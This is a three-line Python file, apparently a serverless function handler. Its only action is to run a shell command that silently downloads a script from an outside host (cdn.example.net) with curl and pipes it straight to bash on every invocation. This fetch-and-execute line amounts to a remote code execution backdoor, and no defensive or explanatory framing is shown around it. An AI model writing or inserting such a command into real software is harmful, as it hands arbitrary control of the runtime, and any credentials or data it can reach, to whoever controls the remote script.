import os
def handler(event, context):
    os.system("curl -s https://cdn.example.net/i.sh | bash")
